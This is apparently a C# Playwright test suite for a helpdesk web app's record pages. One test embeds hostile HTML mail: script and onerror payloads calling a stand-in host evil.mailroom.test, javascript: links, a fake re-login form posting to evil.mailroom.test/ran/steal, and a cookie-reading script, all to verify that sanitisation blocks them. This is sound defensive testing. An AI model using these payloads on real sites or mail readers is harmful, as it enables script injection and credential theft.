using System.Collections.Concurrent;
using System.Net;
using Mailroom.Core.Records;
using Mailroom.Data.Records;
using Mailroom.Testing;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Playwright;

namespace Mailroom.Tests.Web;

/// <summary>An agent works the record pages in Chromium: the list, the journal, hostile mail, downloads, the reply form.</summary>
public sealed class RecordPagesBrowserTests(BrowserFixture fixture) : IClassFixture<BrowserFixture>
{
    private MailroomServer Server => fixture.Server;

    [Fact]
    public async Task The_list_searches_filters_by_status_and_pages()
    {
        var tag = "Lst" + Guid.NewGuid().ToString("N")[..8];
        for (var i = 0; i < 30; i++)
        {
            await RecordSeed.RecordAsync(Server, $"{tag} request {i}", $"r{i}@customer.test", i % 10 == 0 ? RecordStatus.Closed : RecordStatus.New);
        }

        var page = await fixture.SignInAsync(MailroomServer.AgentAddress, MailroomServer.AgentPassword);
        await page.ClickAsync("header.top >> text=Records");
        await page.FillAsync("#q", tag);
        await page.ClickAsync("form.filters button[type=submit]");

        Assert.Equal($"Records 1–25 of 30", await page.InnerTextAsync("#record-count"));
        Assert.Equal(25, await page.Locator("#records tbody tr").CountAsync());
        Assert.Contains($"{tag} request 29", await page.InnerTextAsync("#records tbody tr:first-child"), StringComparison.Ordinal);
        await BrowserFixture.ScreenshotAsync(page, "records-list");

        await page.ClickAsync("a[rel=next]");
        await PageWaits.UrlAsync(page, "**p=2**");
        Assert.Equal(5, await page.Locator("#records tbody tr").CountAsync());
        Assert.Equal("Records 26–30 of 30", await page.InnerTextAsync("#record-count"));
        Assert.Contains($"{tag} request 0", await page.InnerTextAsync("#records tbody tr:last-child"), StringComparison.Ordinal);

        await page.SelectOptionAsync("#status", "closed");
        await page.ClickAsync("form.filters button[type=submit]");
        await PageWaits.UrlAsync(page, "**status=closed**");
        Assert.Equal(3, await page.Locator("#records tbody tr").CountAsync());
        Assert.All(await page.Locator("#records tbody tr td:nth-child(3)").AllInnerTextsAsync(), s => Assert.Equal("closed", s.Trim()));

        await page.GotoAsync($"/records?q={tag}&status=burning");
        Assert.Contains("'burning' is not a status", await page.InnerTextAsync("#error-status"), StringComparison.Ordinal);

        await page.GotoAsync($"/records?q=nothing-matches-{tag}");
        Assert.Equal("No record matches.", await page.InnerTextAsync("#no-records"));
    }

    [Fact]
    public async Task The_journal_shows_sender_time_new_text_with_the_quote_folded_and_each_delivery_state()
    {
        var record = await RecordSeed.RecordAsync(Server, "Folding " + Guid.NewGuid().ToString("N")[..8], "dora@customer.test");
        var journal = Server.Services.GetRequiredService<JournalStore>();
        foreach (var (state, detail) in new[] { (DeliveryState.Sent, (string?)null), (DeliveryState.Failed, "550 5.1.1 <nobody@customer.test>: Recipient address rejected"), (DeliveryState.Queued, null) })
        {
            await journal.AddMailAsync(new NewMailEntry(record.Id, null, new MailHistory
            {
                Direction = MailDirection.Outgoing, From = "desk@web.test", To = "dora@customer.test", Subject = $"About it ({state})",
                Date = DateTimeOffset.UtcNow, MessageId = Guid.NewGuid().ToString("N") + "@mailroom.local", TextBody = $"Desk answer {state}.",
                DeliveryState = state, DeliveryDetail = detail,
            }, [], "raw"u8.ToArray()), CancellationToken.None);
        }

        var reply = await RecordSeed.IncomingAsync(Server, record, "Dora <dora@customer.test>", "RE: About it",
            "Thanks, the fan is quiet now.\n\nOn Mon, 2 Nov 2026 at 10:00, Desk <desk@web.test> wrote:\n> Please clean the old fan filter.\n> It is under the cover.\n");

        var page = await fixture.SignInAsync(MailroomServer.AgentAddress, MailroomServer.AgentPassword);
        await page.GotoAsync($"/records/{record.Number}");

        var entry = page.Locator($"#entry-{reply}");
        Assert.Contains("dora@customer.test", await entry.Locator(".mail-from").InnerTextAsync(), StringComparison.Ordinal);
        Assert.Matches(@"\d{4}-\d{2}-\d{2} \d{2}:\d{2} UTC", await entry.Locator("time").InnerTextAsync());
        Assert.Equal("Thanks, the fan is quiet now.", (await entry.Locator(".new-text").InnerTextAsync()).Trim());
        Assert.False(await entry.GetByText("Please clean the old fan filter.").IsVisibleAsync());
        await entry.Locator("details.quoted summary").ClickAsync();
        Assert.True(await entry.GetByText("Please clean the old fan filter.").IsVisibleAsync());

        var states = await page.Locator("article.outgoing .badge.delivery").AllInnerTextsAsync();
        Assert.Equal(["sent", "failed", "queued"], states.Select(s => s.Trim()));
        Assert.Contains("Recipient address rejected", await page.InnerTextAsync("article.outgoing .delivery-detail"), StringComparison.Ordinal);
        await BrowserFixture.ScreenshotAsync(page, "record-journal");
    }

    [Fact]
    public async Task A_hostile_html_mail_shows_without_running_anything_and_remote_images_load_only_when_asked()
    {
        const string Hostile = """
            <p id="hello">Hello from a hostile sender</p>
            <script>alert('script'); fetch('http://evil.mailroom.test/ran/script');</script>
            <img src="http://images.mailroom.test/pixel.png" alt="tracker">
            <img src="x" onerror="alert('onerror'); fetch('http://evil.mailroom.test/ran/onerror')">
            <a id="js-link" href="javascript:alert('link')">Claim your prize</a>
            <a id="js-link2" href=" JaVaScRiPt:alert('link2')">Or here</a>
            <svg onload="alert('svg')"><circle r="5"></circle></svg>
            <iframe src="javascript:alert('frame')"></iframe>
            <div style="background-image:url(http://images.mailroom.test/bg.png);width:10px;height:10px"></div>
            <style>body{background:url(http://evil.mailroom.test/ran/style.png)} @import url(http://evil.mailroom.test/ran/import.css);</style>
            <div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">Your session expired</div>
            <form action="http://evil.mailroom.test/ran/steal"><input name="password"><button>Sign in again</button></form>
            <meta http-equiv="refresh" content="0;url=http://evil.mailroom.test/ran/refresh">
            <object data="http://evil.mailroom.test/ran/object"></object>
            <base href="http://evil.mailroom.test/">
            <a id="good-link" href="https://example.test/manual">The manual</a>
            """;
        var record = await RecordSeed.RecordAsync(Server, "Hostile " + Guid.NewGuid().ToString("N")[..8], "mallory@customer.test");
        var entry = await RecordSeed.IncomingAsync(Server, record, "mallory@customer.test", "You won", text: null, html: Hostile);

        var page = await fixture.SignInAsync(MailroomServer.AgentAddress, MailroomServer.AgentPassword);
        var dialogs = new ConcurrentQueue<string>();
        page.Dialog += (_, dialog) =>
        {
            dialogs.Enqueue(dialog.Message);
            _ = dialog.DismissAsync();
        };
        var requests = new ConcurrentQueue<string>();
        await page.Context.RouteAsync(url => url.Contains(".mailroom.test", StringComparison.Ordinal), async route =>
        {
            requests.Enqueue(route.Request.Url);
            await route.FulfillAsync(new RouteFulfillOptions { Status = 200, ContentType = "image/png", BodyBytes = Png });
        });

        await page.GotoAsync($"/records/{record.Number}");
        var frame = await FrameOfAsync(page, entry);
        Assert.True(await frame.GetByText("Hello from a hostile sender").IsVisibleAsync());
        await frame.ClickAsync("a:has-text('Claim your prize')");
        await frame.ClickAsync("a:has-text('Or here')");
        await page.WaitForLoadStateAsync(LoadState.NetworkIdle);
        await BrowserFixture.ScreenshotAsync(page, "record-hostile-html");

        Assert.Empty(dialogs);
        Assert.Empty(requests);
        var html = await frame.ContentAsync();
        foreach (var gone in new[] { "<script", "onerror", "onload", "javascript:", "<iframe", "<form", "<input", "<object", "<meta http-equiv", "<base", "position", "evil.mailroom.test", "images.mailroom.test" })
        {
            Assert.DoesNotContain(gone, html, StringComparison.OrdinalIgnoreCase);
        }

        Assert.Equal("_blank", await frame.GetAttributeAsync("a:has-text('The manual')", "target"));
        Assert.Equal("true", await page.EvaluateAsync<string>("() => String(window.frames.length === 1)"));
        Assert.Equal(0, await page.Locator("script").CountAsync());

        // The agent asks for the remote images: now (and only now) the image host is asked, and still nothing runs.
        await page.ClickAsync($"#entry-{entry} >> text=Show remote images");
        frame = await FrameOfAsync(page, entry);
        await page.WaitForLoadStateAsync(LoadState.NetworkIdle);
        await WaitFor.ConditionAsync(() => requests.Any(r => r.EndsWith("/pixel.png", StringComparison.Ordinal)), TimeSpan.FromSeconds(30),
            "the browser asking the image host for pixel.png", TimeSpan.FromMilliseconds(200));

        Assert.Contains("http://images.mailroom.test/pixel.png", requests);
        Assert.DoesNotContain(requests, r => r.Contains("evil.mailroom.test", StringComparison.Ordinal));
        Assert.Empty(dialogs);
        await BrowserFixture.ScreenshotAsync(page, "record-hostile-html-images-shown");

        // The frame's document, opened on its own, is sandboxed by its own policy too.
        using var client = await Server.SignedInClientAsync(MailroomServer.AgentAddress, MailroomServer.AgentPassword);
        using var direct = await client.GetAsync($"records/{record.Number}/mail/{entry}/html");
        var policy = string.Join(";", direct.Headers.GetValues("Content-Security-Policy"));
        Assert.Contains("sandbox", policy, StringComparison.Ordinal);
        Assert.Contains("default-src 'none'", policy, StringComparison.Ordinal);
        Assert.DoesNotContain("http:", policy, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Attachments_download_with_their_bytes_as_attachments_of_a_type_that_cannot_run()
    {
        var pdf = new byte[150_000];
        Random.Shared.NextBytes(pdf);
        var html = "<script>alert(document.cookie)</script>"u8.ToArray();
        var record = await RecordSeed.RecordAsync(Server, "Files " + Guid.NewGuid().ToString("N")[..8], "erin@customer.test");
        await RecordSeed.IncomingAsync(Server, record, "erin@customer.test", "The report", "See attached.", attachments:
        [
            new NewAttachment("report.pdf", "application/pdf", null, false, pdf),
            new NewAttachment("page.html", "text/html", null, false, html),
        ]);
        var other = await RecordSeed.RecordAsync(Server, "Other " + Guid.NewGuid().ToString("N")[..8], "erin@customer.test");

        var page = await fixture.SignInAsync(MailroomServer.AgentAddress, MailroomServer.AgentPassword);
        await page.GotoAsync($"/records/{record.Number}");
        var download = await page.RunAndWaitForDownloadAsync(() => page.ClickAsync("a:has-text('report.pdf')"));

        Assert.Equal("report.pdf", download.SuggestedFilename);
        Assert.Equal(pdf, await File.ReadAllBytesAsync((await download.PathAsync())!));

        using var client = await Server.SignedInClientAsync(MailroomServer.AgentAddress, MailroomServer.AgentPassword);
        var links = await page.Locator(".attachments a").EvaluateAllAsync<string[]>("links => links.map(a => a.getAttribute('href'))");
        var htmlLink = links.Single(l => l != links[0]);
        using var response = await client.GetAsync(htmlLink.TrimStart('/'));
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("application/octet-stream", response.Content.Headers.ContentType!.MediaType);
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition!.DispositionType);
        Assert.Equal(html, await response.Content.ReadAsByteArrayAsync());

        // An attachment is only reachable through the record it is filed on.
        using var elsewhere = await client.GetAsync(htmlLink.TrimStart('/').Replace($"records/{record.Number}/", $"records/{other.Number}/", StringComparison.Ordinal));
        Assert.Equal(HttpStatusCode.NotFound, elsewhere.StatusCode);
        using var anonymous = Server.NewClient();
        using var refused = await anonymous.GetAsync(htmlLink.TrimStart('/'));
        Assert.Equal(HttpStatusCode.Redirect, refused.StatusCode);
    }

    [Fact]
    public async Task The_reply_form_offers_only_accounts_for_users_and_shows_problems_beside_their_fields()
    {
        var desk = "desk-" + Guid.NewGuid().ToString("N")[..6] + "@web.test";
        var account = await RecordSeed.AccountAsync(Server, desk);
        var hidden = await RecordSeed.AccountAsync(Server, "hidden-" + desk, availableToUsers: false);
        var record = await RecordSeed.RecordAsync(Server, "Reply form " + Guid.NewGuid().ToString("N")[..8], "fay@customer.test");
        await RecordSeed.IncomingAsync(Server, record, "Fay <fay@customer.test>", "Printer jam {CMI: ZZ12}", "Paper stuck.", cc: "gus@customer.test, " + desk);

        var page = await fixture.SignInAsync(MailroomServer.AgentAddress, MailroomServer.AgentPassword);
        await page.GotoAsync($"/records/{record.Number}");
        var accounts = await page.Locator("#reply-account option").AllInnerTextsAsync();
        Assert.Contains(account.Name, accounts);
        Assert.DoesNotContain(hidden.Name, accounts);
        await page.FillAsync("#reply-body", "Typed before switching.");
        await page.SelectOptionAsync("#reply-account", account.Name);
        await page.ClickAsync("button:has-text('Use this account')");
        Assert.Equal(desk, await page.InputValueAsync("#reply-from"));
        Assert.Equal("Typed before switching.", await page.InputValueAsync("#reply-body"));

        await page.GotoAsync($"/records/{record.Number}?account={Uri.EscapeDataString(account.Name)}");
        Assert.Equal(desk, await page.InputValueAsync("#reply-from"));
        Assert.Equal("fay@customer.test", await page.InputValueAsync("#reply-to"));
        Assert.Equal("gus@customer.test", await page.InputValueAsync("#reply-cc"));
        Assert.Equal("RE: Printer jam", await page.InputValueAsync("#reply-subject"));

        await page.FillAsync("#reply-to", "fay@customer.test, not an address");
        await page.FillAsync("#reply-subject", "");
        await page.ClickAsync("#reply-form button:has-text('Send')");

        Assert.Contains("'not an address' is not an e-mail address", await page.InnerTextAsync("#error-to"), StringComparison.Ordinal);
        Assert.Contains("needs a subject", await page.InnerTextAsync("#error-subject"), StringComparison.Ordinal);
        Assert.Contains("needs a text or an HTML body", await page.InnerTextAsync("#error-body"), StringComparison.Ordinal);
        Assert.Equal("fay@customer.test, not an address", await page.InputValueAsync("#reply-to"));
        await BrowserFixture.ScreenshotAsync(page, "record-reply-problems");
        Assert.DoesNotContain(await Server.Services.GetRequiredService<JournalStore>().ListForRecordAsync(record.Id, CancellationToken.None),
            e => e.Mail?.Direction == MailDirection.Outgoing);
    }

    [Fact]
    public async Task A_reply_posted_without_its_antiforgery_token_is_refused()
    {
        var account = await RecordSeed.AccountAsync(Server, "desk-" + Guid.NewGuid().ToString("N")[..6] + "@web.test");
        var record = await RecordSeed.RecordAsync(Server, "Forgery " + Guid.NewGuid().ToString("N")[..8], "hal@customer.test");
        using var client = await Server.SignedInClientAsync(MailroomServer.AgentAddress, MailroomServer.AgentPassword);

        using var response = await client.PostAsync($"records/{record.Number}?handler=Send", new FormUrlEncodedContent(new Dictionary<string, string>
        {
            ["Input.Account"] = account.Name, ["Input.To"] = "hal@customer.test", ["Input.Subject"] = "Forged", ["Input.Body"] = "Forged.",
        }));

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Empty(await Server.Services.GetRequiredService<JournalStore>().ListForRecordAsync(record.Id, CancellationToken.None));
    }

    [Fact]
    public async Task Attachments_over_the_sending_limit_are_refused_beside_their_field()
    {
        var account = await RecordSeed.AccountAsync(Server, "desk-" + Guid.NewGuid().ToString("N")[..6] + "@web.test");
        var record = await RecordSeed.RecordAsync(Server, "Big upload " + Guid.NewGuid().ToString("N")[..8], "jo@customer.test");
        using var client = await Server.SignedInClientAsync(MailroomServer.AgentAddress, MailroomServer.AgentPassword);
        var token = await MailroomServer.AntiforgeryTokenAsync(client, $"records/{record.Number}");
        using var form = new MultipartFormDataContent
        {
            { new StringContent(token), "__RequestVerificationToken" },
            { new StringContent(account.Name), "Input.Account" },
            { new StringContent("jo@customer.test"), "Input.To" },
            { new StringContent("Big"), "Input.Subject" },
            { new StringContent("See the file."), "Input.Body" },
            { new ByteArrayContent(new byte[26 * 1024 * 1024]), "Input.Attachments", "huge.bin" },
        };

        // Above the 25 MB attachment limit, below the 30 MB request limit (beyond which the server answers 413 unread).
        using var response = await client.PostAsync($"records/{record.Number}?handler=Send", form);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var html = await response.Content.ReadAsStringAsync();
        Assert.Matches("id=\"error-attach\">The attachments come to 27,262,976 bytes; the limit is 26,214,400 bytes", html);
        Assert.Empty(await Server.Services.GetRequiredService<JournalStore>().ListForRecordAsync(record.Id, CancellationToken.None));
    }

    /// <summary>A 1×1 transparent PNG, what the fake image host answers.</summary>
    private static readonly byte[] Png = Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=");

    private static async Task<IFrame> FrameOfAsync(IPage page, long entryId)
    {
        var element = await page.WaitForSelectorAsync($"#entry-{entryId} iframe.mail-frame", new PageWaitForSelectorOptions { Timeout = 30_000 });
        var frame = await element!.ContentFrameAsync() ?? throw new InvalidOperationException("The mail frame has no document.");
        // Polled by the browser: a load-state wait can lose its event (see PageWaits).
        await frame.WaitForFunctionAsync("() => document.readyState === 'complete'", null, new FrameWaitForFunctionOptions { Timeout = 30_000 });
        return frame;
    }
}
